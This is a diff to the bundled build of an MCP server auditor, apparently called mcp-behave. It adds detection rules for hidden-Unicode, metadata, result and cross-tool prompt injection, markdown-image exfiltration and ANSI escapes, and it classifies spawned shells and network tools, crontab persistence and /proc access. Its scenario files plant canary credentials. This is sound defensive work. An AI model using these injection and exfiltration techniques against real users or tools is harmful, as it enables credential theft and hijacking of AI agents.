@@ -9682,7 +9682,7 @@ const ObservedFileSchema = zod__WEBPACK_IMPORTED_MODULE_2__/* .object */ .Ikc({
     renamedTo: zod__WEBPACK_IMPORTED_MODULE_2__/* .string */ .YjP().optional(),
     via: zod__WEBPACK_IMPORTED_MODULE_2__/* .string */ .YjP()
         .optional()
-        .describe('How a sensitive file was read when not by its own path: "hard link /tmp/x", "rename to /tmp/y", "a file handle (open_by_handle_at)", "sendfile", …'),
+        .describe('How a sensitive file was read when not by its own path: "hard link /tmp/x", "rename to /tmp/y", "a file handle (open_by_handle_at)", "sendfile", …; on a create: "hard link" or "symbolic link" when the new name is a link'),
     aggregated: zod__WEBPACK_IMPORTED_MODULE_2__/* .boolean */ .zMY()
         .optional()
         .describe('`path` is a directory counting accesses to many paths below it, folded because the profile held its cap of distinct paths'),
@@ -9907,7 +9907,14 @@ const RULE_IDS = [
     'behaviour-change',
     'tool-shadowing',
     'credential-lookup',
-    'surface-change'
+    'surface-change',
+    'own-state',
+    'hidden-unicode',
+    'metadata-injection',
+    'cross-tool-instructions',
+    'result-injection',
+    'markdown-image-exfiltration',
+    'ansi-escape'
 ];
 const RuleIdSchema = zod__WEBPACK_IMPORTED_MODULE_0__/* ["enum"] */ .k5n(RULE_IDS);
 
@@ -10008,12 +10015,16 @@ const SURFACE_LISTS = ['tools', 'resources', 'prompts'];
 
 /* harmony export */ __nccwpck_require__.d(__webpack_exports__, {
 /* harmony export */   $V: () => (/* binding */ neutralizeForLog),
+/* harmony export */   C3: () => (/* binding */ decodeTags),
 /* harmony export */   C5: () => (/* binding */ logSafeJson),
+/* harmony export */   Ci: () => (/* binding */ revealHidden),
 /* harmony export */   D9: () => (/* binding */ markdownCode),
 /* harmony export */   Kb: () => (/* binding */ excerpt),
+/* harmony export */   QL: () => (/* binding */ ansiSequences),
 /* harmony export */   TN: () => (/* binding */ oneLine),
 /* harmony export */   TW: () => (/* binding */ logSafeLines),
 /* harmony export */   nL: () => (/* binding */ markdownInline),
+/* harmony export */   qr: () => (/* binding */ invisibleKind),
 /* harmony export */   xv: () => (/* binding */ truncate)
 /* harmony export */ });
 /* unused harmony exports stripAnsi, MAX_EXCERPT_CHARS, codeFence, codeBlockText */
@@ -10034,7 +10045,9 @@ const ANSI_SEQUENCE = /\u001b\][^\u0007\u001b]*(?:\u0007|\u001b\\)|\u001b\[[0-?]
 const INVISIBLE_RANGES = '\\u007f-\\u009f\\u200b-\\u200f\\u2028-\\u202e\\u2060-\\u2069\\ufeff';
 // Half of a surrogate pair on its own is no character at all: a terminal shows U+FFFD, hiding what was sent.
 const LONE_SURROGATE = '[\\ud800-\\udbff](?![\\udc00-\\udfff])|(?<![\\ud800-\\udbff])[\\udc00-\\udfff]';
-const CONTROL_OR_INVISIBLE = new RegExp(`[\\u0000-\\u001f${INVISIBLE_RANGES}]|${LONE_SURROGATE}`, 'g');
+// TAG characters U+E0000–U+E007F (a surrogate pair each): invisible everywhere, ASCII shifted by 0xE0000.
+const TAG_CHARACTER = '\\udb40[\\udc00-\\udc7f]';
+const CONTROL_OR_INVISIBLE = new RegExp(`[\\u0000-\\u001f${INVISIBLE_RANGES}]|${LONE_SURROGATE}|${TAG_CHARACTER}`, 'g');
 const LINE_BREAKING = /[\r\n\u000b\u000c\u0085\u2028\u2029\t]/g;
 function stripAnsi(text) {
     return text.replace(ANSI_SEQUENCE, '');
@@ -10048,7 +10061,9 @@ function visibleEscape(char) {
         case '\t':
             return '\\t';
     }
-    const code = char.charCodeAt(0);
+    const code = char.codePointAt(0) ?? 0;
+    if (code > 0xffff)
+        return `\\u{${code.toString(16)}}`;
     return code < 0x100 ? `\\x${code.toString(16).padStart(2, '0')}` : `\\u${code.toString(16).padStart(4, '0')}`;
 }
 /**
@@ -10158,7 +10173,7 @@ function codeBlockText(text) {
 }
 // Characters JSON.stringify leaves raw that a terminal or a reviewer's eye would act on. Outside strings
 // JSON text is plain ASCII punctuation, so every match is inside a string and `\uXXXX` keeps the value.
-const JSON_RAW_INVISIBLE = new RegExp(`[${INVISIBLE_RANGES}]`, 'g');
+const JSON_RAW_INVISIBLE = new RegExp(`[${INVISIBLE_RANGES}]|${TAG_CHARACTER}`, 'g');
 /**
  * JSON text that is safe to print on a runner log, line by line, and parses back to exactly `value`:
  * invisible and bidi characters become `\uXXXX`, `##[` becomes `#\u0023[` (`#` only ever occurs inside
@@ -10166,11 +10181,11 @@ const JSON_RAW_INVISIBLE = new RegExp(`[${INVISIBLE_RANGES}]`, 'g');
  */
 function logSafeJson(value, indent = 2) {
     return JSON.stringify(value, null, indent)
-        .replace(JSON_RAW_INVISIBLE, (char) => `\\u${char.charCodeAt(0).toString(16).padStart(4, '0')}`)
+        .replace(JSON_RAW_INVISIBLE, (chars) => Array.from(chars.split(''), (char) => `\\u${char.charCodeAt(0).toString(16).padStart(4, '0')}`).join(''))
         .replace(/##\[/g, '#\\u0023[');
 }
 // What may not stay raw in a printed line: the legacy command prefix, and controls other than tab.
-const UNSAFE_IN_LINE = new RegExp(`##\\[|[\\u0000-\\u0008\\u000b-\\u001f${INVISIBLE_RANGES}]|${LONE_SURROGATE}`);
+const UNSAFE_IN_LINE = new RegExp(`##\\[|[\\u0000-\\u0008\\u000b-\\u001f${INVISIBLE_RANGES}]|${LONE_SURROGATE}|${TAG_CHARACTER}`);
 /**
  * Text about to be printed, made of parts we escaped already, with a last check per line: a line that
  * would still read as a workflow command, or carries raw controls, goes through neutralizeForLog. Our
@@ -10184,6 +10199,42 @@ function logSafeLines(text, keepAnsi = false) {
         return UNSAFE_IN_LINE.test(checked) || /^\s*::/u.test(checked) ? neutralizeForLog(line) : line;
     })
         .join('\n');
+}
+function invisibleKind(codePoint) {
+    if (codePoint >= 0xe0000 && codePoint <= 0xe007f)
+        return 'tag';
+    if ((codePoint >= 0x200b && codePoint <= 0x200d) || (codePoint >= 0x2060 && codePoint <= 0x2064) || codePoint === 0xfeff || codePoint === 0x180e) {
+        return 'zero-width';
+    }
+    if (codePoint === 0x200e || codePoint === 0x200f || codePoint === 0x061c)
+        return 'bidi-mark';
+    if (codePoint === 0x202a || codePoint === 0x202b || codePoint === 0x202c)
+        return 'bidi-embedding';
+    if (codePoint === 0x202d || codePoint === 0x202e)
+        return 'bidi-override';
+    if (codePoint >= 0x2066 && codePoint <= 0x2069)
+        return 'bidi-isolate';
+    return null;
+}
+/** A run of TAG characters as the ASCII it spells (U+E0020–E007E); other tags as `\u{e00xx}`. */
+function decodeTags(run) {
+    return Array.from(run, (char) => {
+        const code = (char.codePointAt(0) ?? 0) - 0xe0000;
+        return code >= 0x20 && code <= 0x7e ? String.fromCharCode(code) : visibleEscape(char);
+    }).join('');
+}
+const TAG_RUN = new RegExp(`(?:${TAG_CHARACTER})+`, 'g');
+/**
+ * Untrusted text quoted so a reviewer sees what a model would read: each run of TAG characters is shown
+ * decoded, as `[hidden: "…"]`, every other invisible or control character (ESC included) as a visible
+ * escape, whitespace runs as one space; cut to maxLen code points.
+ */
+function revealHidden(text, maxLen = 160) {
+    return excerpt(text.replace(TAG_RUN, (run) => `[hidden: "${decodeTags(run)}"]`), maxLen);
+}
+/** Every terminal escape sequence in the text (CSI, OSC, two-character ESC), with where it starts. */
+function ansiSequences(text) {
+    return Array.from(text.matchAll(ANSI_SEQUENCE), (match) => ({ sequence: match[0], index: match.index }));
 }
 
 
@@ -25367,8 +25418,6 @@ function baselineUpdateArgs(argv) {
 
 // EXTERNAL MODULE: external "node:fs"
 var external_node_fs_ = __nccwpck_require__(3024);
-;// CONCATENATED MODULE: external "node:dns/promises"
-const external_node_dns_promises_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:dns/promises");
 ;// CONCATENATED MODULE: ./src/profile/phase-clock.ts
 // Behaviour is attributed to calls by time: the probe records each request's window in epoch ms and
 // strace stamps each syscall in epoch seconds. A 1 ms margin absorbs the clocks' rounding.
@@ -25508,6 +25557,99 @@ function serverWideRestriction(scopes, restrictionOf, what) {
         ...new Set(restrictions.map((r) => (r.declared.startsWith('description') ? 'local description' : r.declared)))
     ];
     return { suffix: `; every tool of the server declares ${what}`, declared: `all ${all.length} tools: ${declared.join(', ')}` };
+}
+/**
+ * What a tool says it is, in words: its title (annotations.title, or the tool's own title) and the
+ * first sentence of its description, each at most 200 characters. The name is the caller's to split.
+ */
+function declaredText(tool) {
+    const titles = [tool.annotations?.['title'], tool.title].filter((t) => typeof t === 'string');
+    const first = (tool.description ?? '').trim().split(/(?<=[.!?])\s+|\n\s*\n/)[0] ?? '';
+    return [...titles, first.replace(/\s+/g, ' ')].map((text) => text.slice(0, 200)).filter((text) => text !== '');
+}
+
+;// CONCATENATED MODULE: ./src/rules/declared-purpose.ts
+// What a tool declares it is for, where that makes a behaviour its purpose rather than a contradiction:
+// running commands and managing processes. One table, read from the tool's name, its title annotation
+// and the first sentence of its description (declaredText in declared-scope.ts).
+
+/** The words a name splits into: `start_process`, `runCommand`, `kill-process` → start process, run command, kill process. */
+const words = (name) => name
+    .replace(/([a-z])([A-Z])/g, '$1 $2')
+    .replace(/[^A-Za-z0-9]+/g, ' ')
+    .toLowerCase();
+const RUN_VERB = '(?:run|runs|running(?!\\s+(?:process|processes|terminal|session)\\b)|execute|executes|executing|exec|start|starts|starting|spawn|spawns|spawning|launch|launches|launching|invoke|invokes)';
+const COMMAND_NOUN = '(?:commands?|cmds?|shell|shells|terminal|terminals|scripts?|programs?|process|processes|subprocess|subprocesses)';
+const KILL_VERB = '(?:kill|kills|killing|terminate|terminates|terminating|signal|signals|stop|stops|stopping)';
+const PROCESS_NOUN = '(?:process|processes|pid|pids|terminal session|terminal sessions|session|sessions)';
+const FEW_WORDS = '(?:\\s+[\\w-]+){0,3}?\\s+';
+/** Runs commands: `run_command`, `execute_command`, `start_process`, "Executes a shell command", "Start a terminal process". */
+const RUNS = new RegExp(`\\b${RUN_VERB}(?:${FEW_WORDS}|\\s+)${COMMAND_NOUN}\\b|^(?:shell|bash|terminal|exec|cmd)$`);
+/** Lists or inspects processes: `list_processes`, "List all running processes". */
+const MANAGES = new RegExp(`\\b(?:list|lists|listing|show|shows|get|gets|ps)(?:${FEW_WORDS}|\\s+)(?:running\\s+)?(?:processes|process list)\\b|\\bprocess (?:list|manager|management)\\b`);
+/** Ends processes: `kill_process`, `force_terminate` titled "Force Terminate Process", "Terminate a running process by PID". */
+const TERMINATES = new RegExp(`\\b${KILL_VERB}(?:${FEW_WORDS}|\\s+)${PROCESS_NOUN}\\b|^(?:force )?(?:kill|terminate)(?: \\w+)?$`);
+/** The purposes the tool declares (none for a tool that says nothing of the kind). */
+function declaredPurposes(tool) {
+    const texts = [words(tool.name), ...declaredText(tool).map((text) => text.toLowerCase())];
+    const purposes = new Set();
+    if (texts.some((text) => RUNS.test(text)))
+        purposes.add('runs-commands');
+    if (texts.some((text) => MANAGES.test(text)))
+        purposes.add('manages-processes');
+    if (texts.some((text) => TERMINATES.test(text)))
+        purposes.add('terminates-processes');
+    return purposes;
+}
+/** A shell from this tool is what it declares: it runs commands or manages processes. */
+function declaresCommands(tool) {
+    if (!tool)
+        return false;
+    const purposes = declaredPurposes(tool);
+    return purposes.has('runs-commands') || purposes.has('manages-processes');
+}
+/** A call to this tool may end a process, the server's own included. */
+function declaresTermination(tool) {
+    return tool !== undefined && declaredPurposes(tool).has('terminates-processes');
+}
+/**
+ * `sh -c '<program> --version'`: a shell that can do nothing but ask one program for its version (what
+ * desktop-commander runs before every call to learn which python is there). The program is one plain
+ * word, the flag one of the usual spellings, nothing else in the string.
+ */
+const VERSION_PROBE = /^[A-Za-z0-9][A-Za-z0-9._+-]{0,63} (?:--version|-version|-V|version)$/;
+function isVersionProbe(argv) {
+    const command = argv[2] ?? '';
+    return argv[1] === '-c' && (argv.length === 3 || (argv.length === 4 && argv[3] === command)) && VERSION_PROBE.test(command);
+}
+/**
+ * `sh -c 'xdg-open "https://…"'`: a shell that can do nothing but hand one URL to the desktop's opener
+ * (a feedback tool opening a form). Reported for what it opens (the URL is in the finding, and canaries
+ * in argv are exfiltration either way), not as a shell. No quote, `$`, backquote or backslash in the URL.
+ */
+const URL_OPENER = /^(?:xdg-open|open|wslview|sensible-browser|x-www-browser) "https?:\/\/[^"$`\\\s]+"$/;
+function isUrlOpener(argv) {
+    const command = argv[2] ?? '';
+    return argv[1] === '-c' && (argv.length === 3 || (argv.length === 4 && argv[3] === command)) && URL_OPENER.test(command);
+}
+/**
+ * The call that likely told the server to exit, when the session ended early: the last call, or the one
+ * before it when the last one only met the closed connection, to a tool that declares ending processes
+ * (kill_process, force_terminate). Null when the exit follows no such call: then it exited on its own.
+ */
+function exitRequestedBy(calls, manifest) {
+    const last = calls.at(-1);
+    if (!last)
+        return null;
+    const answered = (call) => call.outcome === 'ok' || call.outcome === 'error-result';
+    const candidates = answered(last) ? [last] : [last, calls.at(-2)];
+    for (const call of candidates) {
+        if (call === undefined || call.kind !== 'tool')
+            continue;
+        if (declaresTermination(manifest.tools.find((tool) => tool.name === call.name)))
+            return call;
+    }
+    return null;
 }
 
 // EXTERNAL MODULE: ./node_modules/picomatch/index.js
@@ -25770,6 +25912,7 @@ function pushOccurrences(out, entry, base, judge, message) {
 
 
 
+
 const SHELLS = new Set(['sh', 'bash', 'dash', 'zsh', 'ksh', 'mksh', 'ash', 'fish', 'csh', 'tcsh', 'busybox']);
 const NETWORK_TOOLS = new Set([
     'curl',
@@ -25818,15 +25961,39 @@ function processOccurrences(judge, out) {
             continue;
         const argv = proc.argv.map((a) => a.split(judge.input.home).join('~'));
         const shownArgv = (0,neutralize/* excerpt */.Kb)(argv.join(' '));
-        const kind = networkTool ? 'a network tool' : shell && !isGitLocalTransport(proc.argv) ? 'a shell' : null;
+        // A shell that can only ask a program its version, or hand one URL to the desktop's opener, is that
+        // program (info, the argv in the message); any other shell is a shell.
+        const opener = shell && isUrlOpener(proc.argv);
+        const kind = networkTool
+            ? 'a network tool'
+            : shell && !isGitLocalTransport(proc.argv) && !isVersionProbe(proc.argv) && !opener
+                ? 'a shell'
+                : opener
+                    ? 'a URL opener'
+                    : null;
         const verb = proc.succeeded ? 'runs' : 'tried to run';
         const crontab = name === 'crontab' && !proc.argv.slice(1).some((a) => a === '-l');
         if (crontab) {
             pushOccurrences(out, proc, { rule: 'persistence', subject: `exec ${name}`, evidence: { paths: [proc.executable], argv: [argv] } }, () => ({ severity: 'critical', suffix: '' }), () => `${verb} ${name} ('${shownArgv}') (a crontab)`);
             continue;
         }
-        pushOccurrences(out, proc, { rule: 'subprocess', subject: name, evidence: { paths: [proc.executable], argv: [argv] }, attempt: !proc.succeeded }, (phase) => judge.decide(judge.policy.executable(callName(phase), proc.executable), "; not in the policy's executables", null, kind ? 'high' : 'info'), (j) => `${verb} ${kind ? `${kind}, ` : ''}${name} ('${shownArgv}')${j.suffix}`);
+        pushOccurrences(out, proc, { rule: 'subprocess', subject: name, evidence: { paths: [proc.executable], argv: [argv] }, attempt: !proc.succeeded }, (phase) => {
+            const judged = judge.decide(judge.policy.executable(callName(phase), proc.executable), "; not in the policy's executables", null, kind && !opener ? 'high' : 'info');
+            return kind === 'a shell' && judged.severity === 'high' && judged.declared === undefined ? shellForItsPurpose(judge, phase, judged) : judged;
+        }, (j) => `${verb} ${kind ? `${kind}, ` : ''}${name} ('${shownArgv}')${j.suffix}`);
     }
+}
+/**
+ * A shell during a call to a tool that declares running commands or managing processes (start_process,
+ * execute_command, a list_processes that runs `ps`) is what the tool is for: medium, consistent with
+ * its declaration. From any other tool, or outside a tool call, it stays high.
+ */
+function shellForItsPurpose(judge, phase, judged) {
+    if (phase.kind !== 'call' || phase.call.kind !== 'tool')
+        return judged;
+    const name = phase.call.name;
+    const tool = judge.input.manifest.tools.find((candidate) => candidate.name === name);
+    return declaresCommands(tool) ? { severity: 'medium', suffix: '; the tool declares running commands or managing processes' } : judged;
 }
 const DETACHMENT = {
     setsid: 'detached with setsid',
@@ -26266,13 +26433,18 @@ function isHiddenHostPath(path, ctx) {
         return false;
     return ![ctx.cwd, ...ctx.serverCodeRoots, ...ctx.runtimeRoots].some((shown) => shown !== '/' && isUnder(path, shown));
 }
+/** What of the sandbox init's /proc/1 reaches beyond what the server has itself. */
+const SANDBOX_INIT_REACH = /^\/proc\/1\/(?:task\/\d+\/)?(?:mem|root|cwd|fd|fdinfo|map_files|pagemap|exe)(?:\/|$)/;
 function procNoise(path, ctx) {
     if (isUnder(path, '/proc/self') || isUnder(path, '/proc/thread-self'))
         return true;
     const pid = /^\/proc\/(\d+)(?:\/|$)/.exec(path);
-    // In the server's own pid namespace pid 1 is the sandbox's init; every other pid is the server's.
+    // In the server's own pid namespace every pid but 1 is the server's, and pid 1 is the sandbox's own
+    // init (bwrap), started with the server's environment: its environ, cmdline, cgroup or status tell the
+    // server nothing it does not have (runtimes read them to detect containers). Its memory, its fds and
+    // its root or cwd are other ways in, and stay findings.
     if (pid)
-        return ctx.ownPidNamespace === true ? pid[1] !== '1' : ctx.isOwnPid(Number(pid[1]));
+        return ctx.ownPidNamespace === true ? pid[1] !== '1' || !SANDBOX_INIT_REACH.test(path) : ctx.isOwnPid(Number(pid[1]));
     return HARMLESS_PROC.some((p) => isUnder(path, p));
 }
 function categoryOf(path, ctx) {
@@ -27140,7 +27312,6 @@ function lcsOps(a, b) {
 
 
 
-
 const PinFileSchema = cli_schemas/* object */.Ikc({
     schemaVersion: cli_schemas/* literal */.euz(1),
     identity: cli_schemas/* string */.YjP(),
@@ -27256,6 +27427,16 @@ async function compareWithPin(store, identity, current, accept, now = new Date()
         ...(written.error ? { error: written.error } : {})
     };
 }
+/** The rug-pull stage of an audit: the surface against its pin, and against itself during the session. */
+async function rugPullOf(input) {
+    const { identity, manifest } = input;
+    const pin = input.complete ? await compareWithPin(new PinStore(input.stateDir), identity, manifest, input.accept) : null;
+    const rugPull = {
+        ...(pin?.rugPull ?? { status: 'new', identity, currentSha256: manifest.sha256, changes: [] }),
+        duringSession: sessionChanges(input.listing, input.relisting)
+    };
+    return { rugPull, ...(pin?.error ? { pinError: pin.error } : {}) };
+}
 async function tryWrite(store, identity, manifest, now) {
     try {
         await store.write(identity, manifest, now);
@@ -27272,8 +27453,51 @@ function errorMessage(error) {
     return typeof error === 'object' && error !== null && 'message' in error ? String(error.message) : String(error);
 }
 
-// EXTERNAL MODULE: ./src/engine/output-files.ts
-var output_files = __nccwpck_require__(7976);
+// EXTERNAL MODULE: ./src/version.ts
+var version = __nccwpck_require__(311);
+;// CONCATENATED MODULE: ./src/report/assemble-report.ts
+
+
+function assembleReport(input) {
+    const { settings, probe, judged } = input;
+    const { masked, changesArchive, descriptors } = input.sandbox;
+    return {
+        schemaVersion: 1,
+        auditor: { name: 'mcp-behave', version: version/* AUDITOR_VERSION */.w },
+        server: {
+            command: settings.command,
+            transport: settings.http?.flavour ?? 'stdio',
+            ...(input.url !== undefined ? { url: input.url } : {}),
+            identity: settings.identity,
+            info: probe.serverInfo,
+            ...(probe.protocolVersion ? { protocolVersion: probe.protocolVersion } : {}),
+            ...(settings.launch ? { package: settings.launch.package } : {})
+        },
+        sandbox: {
+            network: settings.network,
+            method: input.method,
+            failOn: settings.failOn,
+            fs: settings.fs,
+            ...(settings.network === 'sandbox' ? { captureBytes: settings.captureBytes } : {}),
+            ...(masked && masked.length > 0 ? { masked } : {}),
+            ...(changesArchive ? { changesArchive } : {}),
+            ...(descriptors ? { descriptors } : {})
+        },
+        startedAt: new Date(input.startedAt).toISOString(),
+        durationMs: Date.now() - input.startedAt,
+        ...(input.incomplete ? { incomplete: input.incomplete } : {}),
+        manifest: input.manifest,
+        calls: probe.calls,
+        coverage: judged.coverage,
+        observed: input.observed,
+        findings: judged.findings,
+        rugPull: input.rugPull,
+        ...(input.behaviour ? { behaviour: input.behaviour } : {}),
+        summary: (0,model/* summarize */.eh)(judged.findings),
+        exitCode: judged.exitCode
+    };
+}
+
 ;// CONCATENATED MODULE: ./src/probe/coverage.ts
 
 // What was exercised, per declared item, and the `not-exercised` findings. An audit that did not call
@@ -27323,7 +27547,11 @@ function totalsOf(items) {
     const succeeded = items.filter((item) => item.ok > 0).length;
     return { items: items.length, succeeded, percent: items.length === 0 ? 100 : Math.floor((100 * succeeded) / items.length) };
 }
-function coverageFindings(coverage) {
+/**
+ * `exitAfter`: the session ended right after a call to this tool, which declares ending processes
+ * (rules/declared-purpose.ts): the server was likely told to exit, which is no high.
+ */
+function coverageFindings(coverage, exitAfter) {
     const findings = [];
     const finding = (severity, message, subject, phase, items) => ({
         rule: 'not-exercised',
@@ -27334,6 +27562,11 @@ function coverageFindings(coverage) {
         fingerprint: (0,external_node_crypto_.createHash)('sha256').update(`not-exercised\0${subject}\0`).digest('hex').slice(0, 16)
     });
     for (const gap of coverage.gaps) {
+        if (gap.what === 'session' && exitAfter !== undefined) {
+            const why = `the server exited right after a call to ${exitAfter}, a tool that declares ending processes (likely told to end itself), before the audit was done`;
+            findings.push(finding('medium', `${gap.what}: ${why}`, gap.what, { kind: 'shutdown' }, []));
+            continue;
+        }
         findings.push(finding('high', `${gap.what}: ${gap.why}`, gap.what, gap.what === 'session' ? { kind: 'shutdown' } : { kind: 'startup' }, []));
     }
     const unexercised = coverage.items.filter((item) => item.attempts === 0);
@@ -27345,6 +27578,1853 @@ function coverageFindings(coverage) {
         findings.push(finding('medium', `${oversized.length} item(s) answered with a message over the size cap; the answers were dropped unread`, 'oversized answers', { kind: 'shutdown' }, oversized));
     }
     return findings;
+}
+
+;// CONCATENATED MODULE: ./src/settings/data-file.ts
+
+
+
+/**
+ * Reads a file the user wrote (a policy, a scenario): JSON for .json or content starting with `{`, YAML
+ * otherwise. The YAML parser is loaded only then: most audits have no such file, and it would cost every
+ * one's start. Errors name the file by its base name.
+ */
+async function readDataFile(path, what) {
+    const file = (0,external_node_path_.basename)(path);
+    let text;
+    try {
+        text = await (0,promises_.readFile)(path, 'utf8');
+    }
+    catch (error) {
+        throw new errors/* ConfigurationError */.j1(`${file}: cannot read the ${what} file (${error.code ?? 'error'})`);
+    }
+    const json = (0,external_node_path_.extname)(path).toLowerCase() === '.json' || text.trimStart().startsWith('{');
+    try {
+        return json ? JSON.parse(text) : (await __nccwpck_require__.e(/* import() */ 815).then(__nccwpck_require__.t.bind(__nccwpck_require__, 8815, 19))).parse(text);
+    }
+    catch (error) {
+        throw new errors/* ConfigurationError */.j1(`${file}: not valid ${json ? 'JSON' : 'YAML'}: ${error instanceof Error ? error.message.split('\n')[0] : 'parse error'}`);
+    }
+}
+
+;// CONCATENATED MODULE: ./src/probe/scenario.ts
+
+
+
+
+// A scenario: the steps a maintainer knows reach their server's success paths (set the repository,
+// then commit), run first and in order, before the synthesized calls exercise everything else.
+// String values may hold placeholders filled in at run time: {workdir} (the server's working
+// directory), {home} (its HOME), {canary:NAME} (a planted fake credential, e.g. {canary:aws}).
+const Arguments = cli_schemas/* record */.g1P(cli_schemas/* string */.YjP(), cli_schemas/* unknown */.L5J());
+const Expect = cli_schemas/* enum */.k5n(['ok', 'error'], { error: "expected 'ok' or 'error'" });
+const StepSchema = cli_schemas/* strictObject */.rej({
+    name: cli_schemas/* string */.YjP({ error: 'each step needs a name (findings from the step are named by it)' }).min(1).max(200),
+    tool: cli_schemas/* string */.YjP().min(1).optional().describe('a tool to call'),
+    resource: cli_schemas/* string */.YjP().min(1).optional().describe('a resource URI to read'),
+    prompt: cli_schemas/* string */.YjP().min(1).optional().describe('a prompt to get'),
+    arguments: Arguments.optional().describe('tool or prompt arguments; strings may hold placeholders'),
+    expect: Expect.optional().describe('ok or error: a step that ends otherwise is reported (high)')
+})
+    .superRefine((step, ctx) => {
+    const targets = [step.tool, step.resource, step.prompt].filter((target) => target !== undefined);
+    if (targets.length !== 1)
+        ctx.addIssue({ code: 'custom', message: 'needs exactly one of tool, resource, prompt' });
+    if (step.resource !== undefined && step.arguments !== undefined)
+        ctx.addIssue({ code: 'custom', path: ['arguments'], message: 'a resource read takes no arguments' });
+});
+const ScenarioSchema = cli_schemas/* strictObject */.rej({
+    synthesize: cli_schemas/* boolean */.zMY({ error: 'expected true or false' }).default(true).describe('false: run only the steps, no synthesized calls'),
+    steps: cli_schemas/* array */.YOg(StepSchema, { error: 'expected a list of steps' }).min(1, 'at least one step').max(500, 'at most 500 steps')
+});
+function issuePath(path) {
+    return path
+        .map((part) => (typeof part === 'number' ? `[${part}]` : `.${String(part)}`))
+        .join('')
+        .replace(/^\./, '');
+}
+/** Validates a parsed scenario: one line per bad field, each naming it (`steps[2].expect: …`). */
+function parseScenario(data, file) {
+    const result = ScenarioSchema.safeParse(data);
+    if (result.success)
+        return result.data;
+    const lines = result.error.issues.slice(0, 20).map((issue) => {
+        const path = issuePath(issue.path);
+        const message = issue.code === 'unrecognized_keys' ? `unknown key ${issue.keys.map((key) => `'${key}'`).join(', ')}` : issue.message;
+        return `${file}: ${path ? `${path}: ` : ''}${message}`;
+    });
+    throw new errors/* ConfigurationError */.j1(lines.join('\n'));
+}
+/** Reads a scenario file: JSON for .json (or content starting with `{`), YAML otherwise. */
+async function loadScenario(path) {
+    const file = (0,external_node_path_.basename)(path);
+    const data = await readDataFile(path, 'scenario');
+    return parseScenario(data, file);
+}
+const PLACEHOLDER = /\{(workdir|home|canary:[A-Za-z0-9_.-]+)\}/g;
+/**
+ * Fills {workdir}, {home} and {canary:NAME} in every string of the steps. `canaries` are the planted
+ * ones by id (`~/.aws/credentials`, `env:GITHUB_TOKEN`): NAME picks the first whose id contains it.
+ */
+function resolveSteps(scenario, values) {
+    const fill = (text) => text.replace(PLACEHOLDER, (_, key) => {
+        if (key === 'workdir')
+            return values.workdir;
+        if (key === 'home')
+            return values.home;
+        const name = key.slice('canary:'.length).toLowerCase();
+        const canary = values.canaries.find((candidate) => candidate.id.toLowerCase().includes(name));
+        if (!canary)
+            throw new errors/* ConfigurationError */.j1(`scenario: no canary matches {${key}} (planted: ${[...new Set(values.canaries.map((c) => c.id))].slice(0, 12).join(', ')})`);
+        return canary.value;
+    });
+    const deep = (value, depth) => {
+        if (typeof value === 'string')
+            return fill(value);
+        if (depth > 20)
+            return value;
+        if (Array.isArray(value))
+            return value.map((entry) => deep(entry, depth + 1));
+        if (typeof value === 'object' && value !== null)
+            return Object.fromEntries(Object.entries(value).map(([key, entry]) => [key, deep(entry, depth + 1)]));
+        return value;
+    };
+    return scenario.steps.map((step) => {
+        const kind = step.tool !== undefined ? 'tool' : step.resource !== undefined ? 'resource' : 'prompt';
+        const target = fill((step.tool ?? step.resource ?? step.prompt));
+        return {
+            name: step.name,
+            kind,
+            target,
+            ...(step.arguments ? { arguments: deep(step.arguments, 0) } : {}),
+            ...(step.expect ? { expect: step.expect } : {})
+        };
+    });
+}
+/** Names the scenario step on every finding attributed to a call a step made. */
+function nameSteps(findings, calls) {
+    for (const finding of findings) {
+        if (finding.phase.kind !== 'call')
+            continue;
+        const step = calls[finding.phase.call.id]?.step;
+        if (step === undefined)
+            continue;
+        finding.phase.call.step = step;
+        finding.message = `${finding.message} (scenario step "${step}")`;
+    }
+}
+
+;// CONCATENATED MODULE: ./src/rules/aggregate-findings.ts
+// Occurrences → findings: one finding per rule, subject and call site, with a stable fingerprint and
+// merged, capped evidence.
+
+
+
+
+const MAX_EVIDENCE_LINES = 20;
+/**
+ * Stable across runs: rule, subject and call site. A tool's site is its bare name and startup's is
+ * empty, as before call sites were part of findings, so those fingerprints did not change.
+ */
+function fingerprint(rule, subject, phase) {
+    const site = phase.kind === 'startup'
+        ? ''
+        : phase.kind === 'shutdown' || phase.kind === 'install'
+            ? `\0${phase.kind}`
+            : phase.call.kind === 'tool'
+                ? phase.call.name
+                : `${phase.call.name}\0${phase.call.kind}`;
+    return (0,external_node_crypto_.createHash)('sha256').update(`${rule}\0${subject}\0${site}`).digest('hex').slice(0, 16);
+}
+function mergeEvidence(a, b) {
+    const merged = { ...a };
+    for (const key of ['paths', 'addresses', 'dnsNames', 'canaries', 'manifestItems']) {
+        const values = [...(a[key] ?? []), ...(b[key] ?? [])];
+        if (values.length > 0)
+            merged[key] = [...new Set(values)].slice(0, 20);
+    }
+    const argv = [...(a.argv ?? []), ...(b.argv ?? [])];
+    if (argv.length > 0) {
+        const seen = new Map(argv.map((v) => [JSON.stringify(v), v]));
+        merged.argv = [...seen.values()].slice(0, 10);
+    }
+    if (merged.declared === undefined && b.declared !== undefined)
+        merged.declared = b.declared;
+    return merged;
+}
+const before = (a, b) => (b.attempt === true && a.attempt !== true) ||
+    (!!a.attempt === !!b.attempt && (a.order[0] < b.order[0] || (a.order[0] === b.order[0] && a.order[1] < b.order[1])));
+/**
+ * One finding per rule, subject and call site (startup, shutdown, or one tool/resource/prompt), so
+ * every tool that did something is named, each with its own trace lines. Within a site the most
+ * severe occurrence speaks for the finding (its message and phase; the earliest among equals).
+ */
+function aggregate(occurrences) {
+    const groups = new Map();
+    for (const occ of occurrences) {
+        const key = `${occ.rule}\0${occ.subject}\0${callSiteKey(occ.phase)}`;
+        const group = groups.get(key);
+        if (!group) {
+            groups.set(key, { lead: occ, evidence: occ.evidence, lines: new Set(occ.traceLines) });
+            continue;
+        }
+        const rank = (0,model/* severityRank */.qs)(occ.severity) - (0,model/* severityRank */.qs)(group.lead.severity);
+        const leads = rank > 0 || (rank === 0 && before(occ, group.lead));
+        group.evidence = leads ? mergeEvidence(occ.evidence, group.evidence) : mergeEvidence(group.evidence, occ.evidence);
+        if (leads)
+            group.lead = occ;
+        for (const line of occ.traceLines)
+            group.lines.add(line);
+    }
+    const findings = [];
+    for (const { lead, evidence, lines } of groups.values()) {
+        const tool = callName(lead.phase);
+        const finding = {
+            rule: lead.rule,
+            severity: lead.severity,
+            message: lead.message,
